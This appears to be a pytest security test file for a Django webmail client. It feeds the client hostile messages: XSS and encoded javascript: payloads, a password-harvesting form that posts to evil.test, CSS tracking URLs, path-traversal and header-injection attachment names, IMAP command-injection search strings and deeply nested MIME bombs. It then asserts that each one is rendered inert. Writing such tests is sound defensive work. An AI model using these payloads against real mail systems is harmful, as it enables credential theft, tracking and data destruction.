"""More hostile input: HTML tricks the first corpus did not cover, attachment names built to
escape a download folder or inject headers, markup in headers, folder names full of IMAP's
special characters, and search strings with IMAP quoting characters."""

import re

import pytest
from django.utils import translation
from django.utils.translation import gettext

from tests.webmail.conftest import message
from tests.webmail.test_hostile import FORBIDDEN, mime

HTML_CASES = {
    "base_href": '<base href="http://evil.test/"><a href="page">relative</a><img src="pixel.png">',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=http://evil.test/">hello',
    "form_action": (
        '<form action="http://evil.test/steal" method="post"><input type="password" name="p">'
        '<button formaction="http://evil.test/b">go</button></form>'
    ),
    "iframe_srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe><p>after</p>',
    "svg_script": (
        '<svg><script>alert(1)</script><a xlink:href="javascript:alert(2)"><text>t</text></a></svg>'
        "<svg/onload=alert(3)><p>text</p>"
    ),
    "css_url_in_style_attributes": (
        '<p style="background-image: url(http://evil.test/a.png)">a</p>'
        '<p style="background: u\\72l(http://evil.test/b)">b</p>'
        "<p style=\"color:red;background:URL( 'http://evil.test/d')\">d</p>"
        '<p style="background:&#117;rl(http://evil.test/i)">i</p>'
        '<p style="list-style-image:url(http://evil.test/c)">c</p>'
    ),
    "style_blocks_and_import": (
        "<style>body{background:url(http://evil.test/s)}</style>"
        '<style>@import "http://evil.test/x.css";</style><p style="@import url(http://evil.test/y)">x</p>'
    ),
    "escaped_javascript_links": (
        '<a href="java&#x09;script:alert(1)">a</a><a href="java&#x0A;script:alert(2)">b</a>'
        '<a href="&#106;avascript:alert(3)">c</a><a href="javascript&colon;alert(4)">d</a>'
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(5)">e</a>'
    ),
    "target_top_link": '<a href="https://example.test/" target="_top">top</a>',
}


@pytest.mark.parametrize("case", list(HTML_CASES))
def test_html_trick_is_inert(case, webmail_user):
    # given a hostile HTML message
    user = webmail_user()
    uid = user.append(mime(HTML_CASES[case]))
    # when the user opens it
    page = user.client.get(f"/webmail/message/{uid}/", {"f": "INBOX"})
    frame = user.client.get(f"/webmail/message/{uid}/body/", {"f": "INBOX"})
    # then nothing executable, remote or navigating survives in the frame's content
    assert (page.status_code, frame.status_code) == (200, 200)
    content = frame.content.decode().split("<body>", 1)[1]
    for pattern in FORBIDDEN:
        assert not pattern.search(content), pattern.pattern
    assert not re.search(r"<(base|input|button|textarea|select)\b", content, re.I)
    assert not re.search(r"(srcdoc|formaction|xlink:href|http-equiv)", content, re.I)
    assert "evil.test" not in content
    assert not re.search(r'target="_(top|parent|self)"', content)
    csp = frame["Content-Security-Policy"]
    assert "base-uri 'none'" in csp and "form-action 'none'" in csp


def test_target_top_link_opens_in_a_new_tab_without_opener(webmail_user):
    user = webmail_user()
    uid = user.append(mime(HTML_CASES["target_top_link"]))
    content = user.client.get(f"/webmail/message/{uid}/body/", {"f": "INBOX"}).content.decode()
    assert (
        '<a href="https://example.test/" target="_blank" rel="noopener noreferrer nofollow">top</a>'
        in content
    )


def attachment_message(filename_header: bytes) -> bytes:
    return (
        b"From: a@evil.test\r\nTo: b@example.test\r\nSubject: names\r\nMIME-Version: 1.0\r\n"
        b"Content-Type: multipart/mixed; boundary=Q\r\n\r\n--Q\r\nContent-Type: text/plain\r\n\r\nhi\r\n"
        b"--Q\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; "
        + filename_header
        + b"\r\nContent-Transfer-Encoding: base64\r\n\r\naGVsbG8=\r\n--Q--\r\n"
    )


@pytest.mark.parametrize(
    ("header", "expected"),
    [
        (
            b'filename="../../etc/passwd"',
            "attachment; filename=\".._.._etc_passwd\"; filename*=UTF-8''.._.._etc_passwd",
        ),
        (
            b'filename="..\\\\..\\\\boot.ini"',
            "attachment; filename=\".._.._boot.ini\"; filename*=UTF-8''.._.._boot.ini",
        ),
        # RFC 2231 lets the sender put CR, LF, quotes and semicolons in the name
        (
            b"filename*=UTF-8''a%0D%0AX-Evil%3A%201%22%3B%20b.txt",
            "attachment; filename=\"a__X-Evil: 1__ b.txt\"; filename*=UTF-8''a__X-Evil%3A%201__%20b.txt",
        ),
        (
            b"filename*=UTF-8''caff%C3%A8.pdf",
            "attachment; filename=\"caff_.pdf\"; filename*=UTF-8''caff%C3%A8.pdf",
        ),
    ],
)
def test_attachment_name_cannot_escape_or_inject_headers(header, expected, webmail_user):
    # given an attachment whose name tries path traversal or header injection
    user = webmail_user()
    uid = user.append(attachment_message(header))
    # when it is downloaded
    response = user.client.get(f"/webmail/message/{uid}/part/2/", {"f": "INBOX"})
    # then the name is one harmless segment and the response has no extra header
    assert response.status_code == 200
    assert response["Content-Disposition"] == expected
    assert "X-Evil" not in response.headers
    assert response.content == b"hello"


def test_markup_in_subject_and_sender_name_is_text(webmail_user):
    # given a message whose Subject and From display name carry markup
    user = webmail_user()
    uid = user.append(
        message(
            sender='"<img src=x onerror=alert(1)><b>Boss</b>" <boss@evil.test>',
            subject="<script>alert('subject')</script> invoice",
            body="see",
        )
    )
    # when the list and the message are shown
    listing = user.client.get("/webmail/mail/", {"f": "INBOX"}).content.decode()
    page = user.client.get(f"/webmail/message/{uid}/", {"f": "INBOX"}).content.decode()
    # then the markup is escaped text everywhere
    for html in (listing, page):
        assert "<script>alert(" not in html
        assert "<img src=x" not in html and "<b>Boss</b>" not in html
        assert "&lt;script&gt;alert(&#x27;subject&#x27;)&lt;/script&gt; invoice" in html
    assert "<title>&lt;script&gt;alert(&#x27;subject&#x27;)&lt;/script&gt; invoice" in page
    assert "&lt;img src=x onerror=alert(1)&gt;&lt;b&gt;Boss&lt;/b&gt;" in page
    # and a reply keeps them as text in the form
    compose = user.client.get("/webmail/compose/", {"f": "INBOX", "reply": uid}, follow=True)
    assert compose.status_code == 200
    assert "<script>alert(" not in compose.content.decode()


SPECIAL_FOLDERS = ['Quote "this"', "Back\\slash", "R&D", "Città ✓", "Ampersand &- tilde~"]


def imap_names(user) -> set[str]:
    with user.imap() as imap:
        return {name for _flags, _sep, name in imap.list_folders()}


@pytest.mark.parametrize("name", SPECIAL_FOLDERS)
def test_folder_with_imap_special_characters_create_open_rename_delete(name, webmail_user):
    user = webmail_user()
    post = lambda **d: user.client.post("/webmail/folders/change/", d)  # noqa: E731
    # when the user creates the folder
    assert post(op="create", name=name, parent="").status_code == 302
    # then Dovecot has it under exactly that name, and the webmail lists and opens it
    assert name in imap_names(user)
    user.append(message(subject="inside"), folder=name)
    assert user.client.get("/webmail/folders/").status_code == 200
    listing = user.client.get("/webmail/mail/", {"f": name})
    assert listing.status_code == 200 and "inside" in listing.content.decode()
    # when renamed (the new name has the same characters), then deleted
    assert post(op="rename", folder=name, name=f"{name} 2").status_code == 302
    assert f"{name} 2" in imap_names(user) and name not in imap_names(user)
    assert post(op="delete", folder=f"{name} 2").status_code == 302
    assert {f"{name} 2", name} & imap_names(user) == set()


def test_folder_made_by_another_client_with_special_characters_is_usable(webmail_user):
    # given folders another IMAP client created
    user = webmail_user()
    with user.imap() as imap:
        for name in ('Q"x', "B\\y", "&Z"):
            imap.create_folder(name)
    # then the webmail's tree shows them and each opens, renames and deletes
    page = user.client.get("/webmail/folders/").content.decode()
    assert 'value="Q&quot;x"' in page and 'value="B\\y"' in page and 'value="&amp;Z"' in page
    for name in ('Q"x', "B\\y", "&Z"):
        assert user.client.get("/webmail/mail/", {"f": name}).status_code == 200
        assert (
            user.client.post("/webmail/folders/change/", {"op": "delete", "folder": name}).status_code == 302
        )
    assert {'Q"x', "B\\y", "&Z"} & imap_names(user) == set()


@pytest.mark.parametrize(
    ("text", "subject"),
    [
        ('say "hi"', 'say "hi"'),
        ("back\\slash", "back\\slash"),
        ('a" OR ALL "', 'a" OR ALL "'),
        ("caffè", "caffè"),
        (") ALL (", ") ALL ("),
        ("{5}\r\nx", "{5} x"),  # control characters are spaces
    ],
)
def test_search_with_imap_quoting_characters(text, subject, webmail_user):
    # given two messages, one whose subject contains the search text
    user = webmail_user()
    user.append(message(subject=f"match {subject} here", body="one"))
    user.append(message(subject="other", body="two"))
    # when the user searches for it
    response = user.client.get("/webmail/mail/", {"f": "INBOX", "q": text, "in": "subject"})
    # then the search is literal: only the matching message, no IMAP error, no injection
    assert response.status_code == 200
    content = response.content.decode()
    assert content.count('class="wm-row') == 1
    assert "other" not in re.findall(r'class="subject"[^>]*>([^<]*)<', content)


@pytest.mark.parametrize("where", ["all", "subject", "body"])
@pytest.mark.parametrize(
    "injected", ["x\r\nZ1 DELETE Keep\r\n", "x\r\nZ1 DELETE Keep", "x\nZ1 DELETE Keep\n", "x\rZ1 DELETE Keep"]
)
def test_search_text_cannot_inject_imap_commands(injected, where, webmail_user):
    # given a folder with a message, and a search link someone sent the user (a GET: no CSRF check)
    user = webmail_user()
    with user.imap() as imap:
        imap.create_folder("Keep")
    user.append(message(subject="precious"), folder="Keep")
    # when the user follows it
    response = user.client.get("/webmail/mail/", {"f": "INBOX", "q": injected, "in": where})
    # then it is an ordinary search with no results, and the folder and its message are intact
    assert response.status_code == 200
    assert response.content.decode().count('class="wm-row') == 0
    assert "Keep" in imap_names(user)
    assert len(user.uids("Keep")) == 1
    # and the pooled IMAP connection still works for the next request
    assert user.client.get("/webmail/mail/", {"f": "Keep"}).content.decode().count('class="wm-row') == 1


@pytest.mark.parametrize(
    ("op", "data"),
    [
        ("delete", {"folder": "Parent"}),  # exists only as the path of Parent/Child (\NonExistent)
        ("create", {"name": ".hidden", "parent": ""}),  # Dovecot refuses names starting with a dot
        ("create", {"name": "a/../b", "parent": ""}),
        ("create", {"name": "é" * 150, "parent": ""}),  # 150 characters, far longer once UTF-7
    ],
)
def test_folder_change_dovecot_refuses_is_a_message_not_a_500(op, data, webmail_user):
    # given a folder that another client created inside a parent that does not exist by itself
    user = webmail_user()
    with user.imap() as imap:
        imap.create_folder("Parent/Child")
    before = imap_names(user)
    # when the user asks for a change Dovecot refuses
    response = user.client.post("/webmail/folders/change/", {"op": op, **data}, follow=True)
    # then the folders page says so, and nothing changed
    assert response.redirect_chain == [("/webmail/folders/", 302)]
    assert response.status_code == 200
    with translation.override("it"):  # the page's language (its catalogue may not have it yet)
        refused = gettext("The mail server refused this change to the folders.")
    assert refused in response.content.decode()
    assert imap_names(user) == before


def nested_multiparts(depth: int) -> bytes:
    opening = b"".join(
        b"Content-Type: multipart/mixed; boundary=B%d\r\n\r\n--B%d\r\n" % (i, i) for i in range(depth)
    )
    closing = b"".join(b"\r\n--B%d--\r\n" % i for i in reversed(range(depth)))
    return (
        b"From: a@evil.test\r\nTo: v@example.test\r\nSubject: deep\r\nMIME-Version: 1.0\r\n"
        + opening
        + b"Content-Type: text/plain\r\n\r\nthe innermost text\r\n"
        + closing
    )


def nested_messages(depth: int) -> bytes:
    raw = b"From: x@evil.test\r\nSubject: inner\r\n\r\nthe innermost text\r\n"
    for i in range(depth):
        head = b"From: x@evil.test\r\nSubject: deep %d\r\nMIME-Version: 1.0\r\n" % i
        raw = head + b"Content-Type: message/rfc822\r\n\r\n" + raw
    return raw


@pytest.mark.parametrize("raw", [nested_multiparts(3000), nested_messages(1000)], ids=["multipart", "rfc822"])
def test_mime_bomb_of_nested_parts_is_shown_as_text(raw, webmail_user):
    # given a message nested deeper than Python's parser can recurse
    user = webmail_user()
    uid = user.append(raw)
    # when the user opens it, looks at its body, replies and forwards
    page = user.client.get(f"/webmail/message/{uid}/", {"f": "INBOX"})
    body = user.client.get(f"/webmail/message/{uid}/body/", {"f": "INBOX"})
    reply = user.client.get("/webmail/compose/", {"f": "INBOX", "reply": uid}, follow=True)
    forward = user.client.get("/webmail/compose/", {"f": "INBOX", "forward": uid}, follow=True)
    # then every page answers (the body as raw text, the innermost text included)
    assert [r.status_code for r in (page, body, reply, forward)] == [200, 200, 200, 200]
    assert "the innermost text" in body.content.decode()
